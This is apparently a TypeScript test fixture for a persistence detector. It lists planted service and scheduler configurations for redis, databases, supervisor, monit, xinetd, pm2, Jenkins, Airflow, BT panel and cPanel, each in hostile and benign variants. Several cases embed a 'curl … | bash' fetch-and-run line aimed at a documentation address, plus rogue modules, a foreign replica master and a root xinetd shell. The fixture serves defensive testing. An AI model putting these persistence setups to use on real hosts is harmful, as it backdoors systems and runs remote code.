/** Cases of services that hold a job; nothing in them is ever run, all addresses are of the documentation ranges. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const fetches = 'curl -fsSL http://192.0.2.70/s.sh | bash';
const foreign = '/usr/lib/gvfs/gvfsd-net';
const hidden = '/usr/share/.icons/iconsd';
const program = { [foreign]: inertProgram() };
const dark = { [hidden]: inertProgram() };

const app = (path: string, interpreter = 'none', args: readonly string[] = []): string =>
  JSON.stringify([
    { name: 'app', pm_exec_path: path, exec_interpreter: interpreter, args, autorestart: true },
  ]);
const job = (command: string): string =>
  `<project><triggers><hudson.triggers.TimerTrigger><spec>H/10 * * * *</spec></hudson.triggers.TimerTrigger></triggers><builders><hudson.tasks.Shell><command>${command}</command></hudson.tasks.Shell></builders></project>`;
const section = (command: string): string =>
  `[program:svc]\ncommand=${command}\nautostart=true\nautorestart=true\n`;
const check = (command: string): string =>
  `check process svc with pidfile /run/svc.pid\n  start program = "${command}"\n`;
const inet = (server: string, args = ''): string =>
  `service svc\n{\n  disable = no\n  port = 4010\n  user = root\n  server = ${server}\n  server_args = ${args}\n}\n`;
const dag = (command: string): string =>
  `from airflow import DAG\nfrom airflow.operators.bash import BashOperator\nBashOperator(task_id="t", bash_command="${command}")\n`;
const owned = '/usr/share/svc/run';
const edit = {
  packaged: { [owned]: '#!/bin/sh\nexit 0\n' },
  edited: { [owned]: '#!/bin/sh\n/usr/bin/env true &\nexit 0\n' },
};

const databases: readonly MechanismCase[] = [
  {
    mechanism: 'redis',
    dress: 'fetch-and-run',
    what: 'a database that is saved as a table of cron, and the job in it',
    planted: {
      '/etc/redis/redis.conf': 'dir /var/spool/cron\ndbfilename root\n',
      '/var/lib/redis/dump.rdb': `REDIS0009\xfa\x00\n\n*/2 * * * * ${fetches}\n\n`,
    },
  },
  {
    mechanism: 'redis',
    dress: 'unowned-binary',
    what: 'a module of a temporary folder',
    planted: { '/etc/redis/redis.conf': 'loadmodule /var/tmp/red2.so\n', '/var/tmp/red2.so': inertProgram() },
  },
  {
    mechanism: 'redis',
    dress: 'owned-edit',
    what: 'a foreign master in the file of a package',
    packaged: { '/etc/redis/redis.conf': 'dir /var/lib/redis\n' },
    conffiles: ['/etc/redis/redis.conf'],
    planted: { '/etc/redis/redis.conf': 'dir /var/lib/redis\nreplicaof 198.51.100.9 21000\n' },
  },
  {
    mechanism: 'redis',
    dress: 'honest',
    what: 'a cache with a module of the owner and a master nearby',
    planted: {
      '/etc/redis/redis.conf':
        'bind 127.0.0.1\ndir /var/lib/redis\ndbfilename dump.rdb\nreplicaof 10.0.0.5 6379\nloadmodule /opt/redis-stack/lib/rejson.so\n',
      '/opt/redis-stack/lib/rejson.so': inertProgram(),
      '/var/lib/redis/dump.rdb': 'REDIS0011\xfa\tredis-ver\x057.2.4\x00user:1\x05hello\xff',
    },
  },
  {
    mechanism: 'database-function',
    dress: 'fetch-and-run',
    what: 'an archive command that fetches',
    planted: {
      '/var/lib/postgresql/15/main/PG_VERSION': '15\n',
      '/var/lib/postgresql/15/main/postgresql.auto.conf': `archive_command = '${fetches}'\n`,
    },
  },
  {
    mechanism: 'database-function',
    dress: 'unowned-binary',
    what: 'a function of a foreign library',
    planted: { '/usr/lib/mysql/plugin/udf_sys_info.so': inertProgram() },
  },
  {
    mechanism: 'database-function',
    dress: 'owned-edit',
    what: 'a plugin of a package that was replaced',
    packaged: { '/usr/lib/mysql/plugin/auth_socket.so': inertProgram(3000) },
    planted: { '/usr/lib/mysql/plugin/auth_socket.so': inertProgram(3001) },
  },
  {
    mechanism: 'database-function',
    dress: 'honest',
    what: 'plugins of packages, an archive of the owner',
    packaged: { '/usr/lib/mysql/plugin/auth_socket.so': inertProgram(3000) },
    planted: {
      '/etc/postgresql/15/main/postgresql.conf':
        "shared_preload_libraries = 'pg_stat_statements,timescaledb'\narchive_command = 'pgbackrest --stanza=main archive-push %p'\n",
      '/etc/mysql/my.cnf': '[mysqld]\nplugin_load_add=auth_socket\n',
    },
  },
];

const supervisors: readonly MechanismCase[] = [
  {
    mechanism: 'supervisor',
    dress: 'fetch-and-run',
    what: 'a program that fetches',
    planted: { '/etc/supervisor/conf.d/svc.conf': section(`/bin/bash -c "${fetches}"`) },
  },
  {
    mechanism: 'supervisor',
    dress: 'unowned-binary',
    what: 'a foreign program of the system',
    planted: { '/etc/supervisor/conf.d/svc.conf': section(foreign), ...program },
  },
  {
    mechanism: 'supervisor',
    dress: 'owned-edit',
    what: 'a script of a package that was edited',
    packaged: edit.packaged,
    planted: { '/etc/supervisor/conf.d/svc.conf': section(owned), ...edit.edited },
  },
  {
    mechanism: 'supervisor',
    dress: 'honest',
    what: 'a worker of a web application',
    planted: {
      '/etc/supervisor/conf.d/worker.conf':
        '[program:worker]\nprocess_name=%(program_name)s_%(process_num)02d\ncommand=php /var/www/app/artisan queue:work --sleep=3 --tries=3\nautostart=true\nuser=www-data\n',
      '/var/www/app/artisan': '#!/usr/bin/env php\n<?php\nrequire "vendor/autoload.php";\n',
    },
  },
  {
    mechanism: 'monit',
    dress: 'fetch-and-run',
    what: 'a start program that fetches',
    planted: { '/etc/monit/conf.d/svc': check(`/bin/sh -c '${fetches}'`) },
  },
  {
    mechanism: 'monit',
    dress: 'unowned-binary',
    what: 'a foreign program of the system',
    planted: { '/etc/monit/conf.d/svc': check(foreign), ...program },
  },
  {
    mechanism: 'monit',
    dress: 'owned-edit',
    what: 'a script of a package that was edited',
    packaged: edit.packaged,
    planted: { '/etc/monit/conf.d/svc': check(owned), ...edit.edited },
  },
  {
    mechanism: 'monit',
    dress: 'honest',
    what: 'a web server and an alarm',
    planted: {
      '/etc/monit/conf.d/nginx':
        'check process nginx with pidfile /run/nginx.pid\n  start program = "/bin/systemctl start nginx"\n  stop program = "/bin/systemctl stop nginx"\n  if failed host 127.0.0.1 port 80 then restart\n  if cpu > 90% for 5 cycles then exec "/usr/local/bin/alarm cpu"\n',
      '/usr/local/bin/alarm': '#!/bin/sh\nlogger "$@"\n',
    },
  },
  {
    mechanism: 'xinetd',
    dress: 'fetch-and-run',
    what: 'a service that hands out a shell',
    planted: { '/etc/xinetd.d/svc': inet('/bin/bash', `-c "${fetches}"`) },
  },
  {
    mechanism: 'xinetd',
    dress: 'unowned-binary',
    what: 'a foreign program of the system',
    planted: { '/etc/xinetd.d/svc': inet(foreign), ...program },
  },
  {
    mechanism: 'xinetd',
    dress: 'owned-edit',
    what: 'the service of a package starts a hidden program',
    packaged: { '/etc/xinetd.d/svc': inet('/usr/sbin/cron') },
    planted: { '/etc/xinetd.d/svc': inet(hidden), ...dark },
  },
  {
    mechanism: 'xinetd',
    dress: 'honest',
    what: 'check_mk and rsync',
    planted: {
      '/etc/xinetd.d/check_mk':
        'service check_mk\n{\n  port = 6556\n  user = root\n  server = /usr/bin/check_mk_agent\n  disable = no\n}\n',
      '/etc/xinetd.d/rsync':
        'service rsync\n{\n  disable = yes\n  server = /usr/bin/rsync\n  server_args = --daemon\n}\n',
    },
  },
];

const schedulers: readonly MechanismCase[] = [
  {
    mechanism: 'pm2',
    dress: 'fetch-and-run',
    what: 'an application that fetches',
    planted: { '/home/ada/.pm2/dump.pm2': app('/bin/bash', 'none', ['-c', fetches]) },
  },
  {
    mechanism: 'pm2',
    dress: 'unowned-binary',
    what: 'a program in a hidden folder',
    planted: {
      '/home/ada/.pm2/dump.pm2': app('/home/ada/.next/.cache/next-server'),
      '/home/ada/.next/.cache/next-server': inertProgram(),
    },
  },
  {
    mechanism: 'pm2',
    dress: 'owned-edit',
    what: 'a script of a package that was edited',
    packaged: edit.packaged,
    planted: { '/home/ada/.pm2/dump.pm2': app(owned), ...edit.edited },
  },
  {
    mechanism: 'pm2',
    dress: 'honest',
    what: 'web applications',
    planted: {
      '/home/ada/.pm2/dump.pm2': app('/home/ada/site/node_modules/next/dist/bin/next', '/usr/bin/node', [
        'start',
        '-p',
        '3000',
      ]),
      '/home/ada/site/node_modules/next/dist/bin/next': '#!/usr/bin/env node\nrequire("../server");\n',
    },
  },
  {
    mechanism: 'jenkins',
    dress: 'fetch-and-run',
    what: 'a step that fetches',
    planted: { '/var/lib/jenkins/jobs/a/config.xml': job(fetches) },
  },
  {
    mechanism: 'jenkins',
    dress: 'unowned-binary',
    what: 'a step of a foreign program of the system',
    planted: { '/var/lib/jenkins/jobs/a/config.xml': job(foreign), ...program },
  },
  {
    mechanism: 'jenkins',
    dress: 'owned-edit',
    what: 'a step of a script of a package that was edited',
    packaged: edit.packaged,
    planted: { '/var/lib/jenkins/jobs/a/config.xml': job(owned), ...edit.edited },
  },
  {
    mechanism: 'jenkins',
    dress: 'honest',
    what: 'a build and its upload',
    planted: {
      '/var/lib/jenkins/jobs/site/config.xml': job(
        'npm ci\nnpm run build\nrsync -a dist/ web-1:/srv/www/\ncurl -fsS -X POST http://127.0.0.1:8080/reload',
      ),
    },
  },
  {
    mechanism: 'airflow',
    dress: 'fetch-and-run',
    what: 'a graph that fetches',
    planted: { '/opt/airflow/dags/sys.py': dag(fetches) },
  },
  {
    mechanism: 'airflow',
    dress: 'unowned-binary',
    what: 'a graph of a foreign program of the system',
    planted: {
      '/opt/airflow/dags/sys.py': `import subprocess\nsubprocess.Popen(["${foreign}"])\n`,
      ...program,
    },
  },
  {
    mechanism: 'airflow',
    dress: 'owned-edit',
    what: 'a graph of a script of a package that was edited',
    packaged: edit.packaged,
    planted: { '/opt/airflow/dags/sys.py': `import os\nos.system("${owned}")\n`, ...edit.edited },
  },
  {
    mechanism: 'airflow',
    dress: 'honest',
    what: 'a nightly load',
    planted: {
      '/opt/airflow/dags/load.py':
        'from airflow import DAG\nimport requests\ndef load():\n    rows = requests.get("http://192.0.2.90/api/rows").json()\n    return len(rows)\n',
    },
  },
  {
    mechanism: 'bt-panel',
    dress: 'fetch-and-run',
    what: 'a task that fetches',
    planted: { '/www/server/cron/9b1c': `#!/bin/bash\nPATH=/bin\n${fetches}\n` },
  },
  {
    mechanism: 'bt-panel',
    dress: 'unowned-binary',
    what: 'a task of a foreign program of the system',
    planted: { '/www/server/cron/9b1c': `#!/bin/bash\n${foreign} &\n`, ...program },
  },
  {
    mechanism: 'bt-panel',
    dress: 'owned-edit',
    what: 'a task of a script of a package that was edited',
    packaged: edit.packaged,
    planted: { '/www/server/cron/9b1c': `#!/bin/bash\n${owned}\n`, ...edit.edited },
  },
  {
    mechanism: 'bt-panel',
    dress: 'honest',
    what: 'a cut of logs, a backup and a renewal',
    planted: {
      '/www/server/cron/9b1c':
        '#!/bin/bash\nPATH=/bin:/sbin:/usr/bin\nexport PATH\n/www/server/panel/pyenv/bin/python -u /www/server/panel/script/logsBackup ALL 180\necho "----"\nendDate=`date +"%Y-%m-%d %H:%M:%S"`\necho "[$endDate] Successful"\n',
      '/www/server/cron/77ab':
        '#!/bin/bash\n/www/server/panel/pyenv/bin/python -u /www/server/panel/class/acme_v2.py --renew=1\n',
    },
  },
  {
    mechanism: 'cpanel',
    dress: 'fetch-and-run',
    what: 'a hook that fetches',
    planted: { '/usr/local/cpanel/scripts/postwwwacct': `#!/bin/sh\n${fetches}\n` },
  },
  {
    mechanism: 'cpanel',
    dress: 'unowned-binary',
    what: 'a hook of a foreign program of the system',
    planted: {
      '/var/cpanel/hooks.yaml': `Whostmgr:\n  Accounts::Create:\n    - hook: ${foreign}\n`,
      ...program,
    },
  },
  {
    mechanism: 'cpanel',
    dress: 'owned-edit',
    what: 'a hook of a script of a package that was edited',
    packaged: edit.packaged,
    planted: { '/usr/local/cpanel/scripts/postupcp': `#!/bin/sh\n${owned}\n`, ...edit.edited },
  },
  {
    mechanism: 'cpanel',
    dress: 'honest',
    what: 'a hook of the owner',
    planted: {
      '/usr/local/cpanel/scripts/postwwwacct': '#!/bin/sh\n/usr/local/bin/welcome-mail "$@"\n',
      '/usr/local/bin/welcome-mail': '#!/bin/sh\nmail -s welcome root\n',
    },
  },
];

export const servicesCases: readonly MechanismCase[] = [...databases, ...supervisors, ...schedulers];
